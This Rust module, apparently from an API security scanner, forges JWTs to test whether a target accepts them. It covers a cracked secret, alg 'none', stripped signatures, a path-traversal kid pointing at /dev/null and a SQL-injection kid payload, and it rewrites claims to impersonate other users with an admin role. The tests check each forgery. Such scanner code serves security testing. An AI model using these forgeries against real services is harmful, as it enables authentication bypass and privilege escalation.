//! [`Minter`]: a way of making JWTs the target accepts, as the JWT checks
//! establish it (a cracked HMAC secret from weak_jwt_secret; `alg: none`, a
//! stripped signature or a `kid` that points the key lookup at a known key
//! from jwt_forgery), and the claims of a token forged for another subject.

use std::time::{SystemTime, UNIX_EPOCH};

use serde_json::{Value, json};

use crate::checks::jwt::{self, Jwt};

/// Name-like claims, in the order a subject is looked for.
pub(super) const SUBJECT_CLAIMS: [&str; 7] = [
    "sub",
    "username",
    "user",
    "preferred_username",
    "name",
    "email",
    "login",
];

/// A way of making tokens the target may accept.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Minter {
    /// Signed with the secret weak_jwt_secret cracked, under the template's algorithm.
    Secret(String),
    /// `alg: none` (as the template spells nothing else), no signature.
    AlgNone,
    /// The template's algorithm kept, the signature left empty.
    Stripped,
    /// HS256 with a `kid` of `/dev/null` and the empty key.
    KidNull,
    /// HS256 with a `kid` that injects SQL selecting the key `apiprobe`.
    KidSql,
}

impl Minter {
    /// Every minter to try for `template`, the cracked `secret` first.
    pub(super) fn candidates(secret: Option<String>) -> Vec<Minter> {
        let mut out: Vec<Minter> = secret.into_iter().map(Minter::Secret).collect();
        out.extend([
            Minter::AlgNone,
            Minter::Stripped,
            Minter::KidNull,
            Minter::KidSql,
        ]);
        out
    }

    /// How the token is made, for titles and proofs (never the secret itself).
    pub(super) fn describe(&self) -> &'static str {
        match self {
            Minter::Secret(_) => "signed with the JWT secret weak_jwt_secret cracked",
            Minter::AlgNone => "alg \"none\", unsigned",
            Minter::Stripped => "its signature stripped",
            Minter::KidNull => "a kid header pointing at /dev/null (the empty key)",
            Minter::KidSql => "a kid header that injects the key through SQL",
        }
    }

    /// The check whose flaw the minter uses.
    pub(super) fn check(&self) -> &'static str {
        match self {
            Minter::Secret(_) => "weak_jwt_secret",
            _ => "jwt_forgery",
        }
    }

    /// A token with `claims` made this way, the template's header as the base.
    pub(super) fn mint(&self, template: &Jwt, claims: &Value) -> String {
        match self {
            Minter::Secret(key) => jwt::encode(&template.header, claims, Some(key.as_bytes())),
            Minter::AlgNone => {
                let mut header = template.header.clone();
                header["alg"] = json!("none");
                jwt::encode(&header, claims, None)
            }
            Minter::Stripped => {
                let mut token = jwt::encode(&template.header, claims, None);
                if !token.ends_with('.') {
                    token.push('.');
                }
                token
            }
            Minter::KidNull => jwt::encode(
                &json!({"alg": "HS256", "typ": "JWT", "kid": "../../../../../../../../../dev/null"}),
                claims,
                Some(b""),
            ),
            Minter::KidSql => jwt::encode(
                &json!({"alg": "HS256", "typ": "JWT", "kid": "apiprobe' UNION SELECT 'apiprobe' -- "}),
                claims,
                Some(b"apiprobe"),
            ),
        }
    }
}

fn now() -> i64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| i64::try_from(d.as_secs()).unwrap_or(i64::MAX))
        .unwrap_or(0)
}

/// The template's claims with fresh times: `iat` now and `exp` an hour
/// ahead where the template has them (a copy of an old token is not expired).
pub(super) fn refreshed(claims: &Value) -> Value {
    let mut out = claims.clone();
    if let Some(map) = out.as_object_mut() {
        if map.get("iat").is_some_and(Value::is_number) {
            map.insert("iat".into(), json!(now()));
        }
        if map.get("exp").is_some_and(Value::is_number) {
            map.insert("exp".into(), json!(now() + 3_600));
        }
    }
    out
}

/// The claim of `template` that names its subject: the first name-like
/// claim holding one of `names` (the scan's user names), else the first
/// name-like claim it has.
pub(super) fn subject_claim(template: &Jwt, names: &[String]) -> Option<&'static str> {
    let holds = |k: &str| {
        template
            .claim(k)
            .is_some_and(|v| names.iter().any(|n| n.eq_ignore_ascii_case(&v)))
    };
    SUBJECT_CLAIMS
        .iter()
        .copied()
        .find(|k| holds(k))
        .or_else(|| {
            SUBJECT_CLAIMS
                .iter()
                .copied()
                .find(|k| template.claims.get(*k).is_some_and(Value::is_string))
        })
}

/// The claims of a token forged for `subject`: the template's claims
/// (refreshed), the subject claim set to `subject`, and each claim named in
/// `raised` set to its value (the privileged role, a flipped flag).
pub(super) fn forged_claims(
    template: &Jwt,
    subject_claim: &str,
    subject: &str,
    raised: &[(String, Value)],
) -> Value {
    let mut claims = refreshed(&template.claims);
    if let Some(map) = claims.as_object_mut() {
        map.insert(subject_claim.to_owned(), json!(subject));
        for (name, value) in raised {
            map.insert(name.clone(), value.clone());
        }
    }
    claims
}

#[cfg(test)]
mod tests {
    use super::*;

    fn template() -> Jwt {
        let token = jwt::encode(
            &json!({"alg": "HS384", "typ": "JWT"}),
            &json!({"sub": "alice", "role": "user", "iat": 1, "exp": 2}),
            Some(b"keyboard"),
        );
        Jwt::parse(&token).unwrap()
    }

    #[test]
    fn each_minter_makes_the_token_it_names() {
        let t = template();
        let claims = forged_claims(&t, "sub", "admin", &[("role".into(), json!("admin"))]);
        assert_eq!(claims["sub"], "admin");
        assert_eq!(claims["role"], "admin");
        assert!(claims["exp"].as_i64().unwrap() > now());
        let signed = Jwt::parse(&Minter::Secret("keyboard".into()).mint(&t, &claims)).unwrap();
        assert_eq!(signed.alg(), "HS384");
        assert!(signed.verifies_with(b"keyboard"));
        assert_eq!(signed.claim("sub").as_deref(), Some("admin"));
        let none = Jwt::parse(&Minter::AlgNone.mint(&t, &claims)).unwrap();
        assert_eq!(none.alg(), "none");
        assert!(none.signature_b64.is_empty());
        let stripped = Minter::Stripped.mint(&t, &claims);
        assert!(stripped.ends_with('.'));
        assert_eq!(Jwt::parse(&stripped).unwrap().alg(), "HS384");
        assert!(
            Jwt::parse(&Minter::KidNull.mint(&t, &claims))
                .unwrap()
                .verifies_with(b"")
        );
        assert!(
            Jwt::parse(&Minter::KidSql.mint(&t, &claims))
                .unwrap()
                .verifies_with(b"apiprobe")
        );
        // the secret is never in the description
        assert!(
            !Minter::Secret("keyboard".into())
                .describe()
                .contains("keyboard")
        );
    }

    #[test]
    fn the_subject_claim_is_the_one_naming_the_user() {
        let token = jwt::encode(
            &json!({"alg": "HS256"}),
            &json!({"iss": "x", "name": "Alice A", "email": "a@x.io"}),
            Some(b"k"),
        );
        let t = Jwt::parse(&token).unwrap();
        assert_eq!(subject_claim(&t, &["a@x.io".into()]), Some("email"));
        assert_eq!(subject_claim(&t, &["nobody".into()]), Some("name"));
    }
}
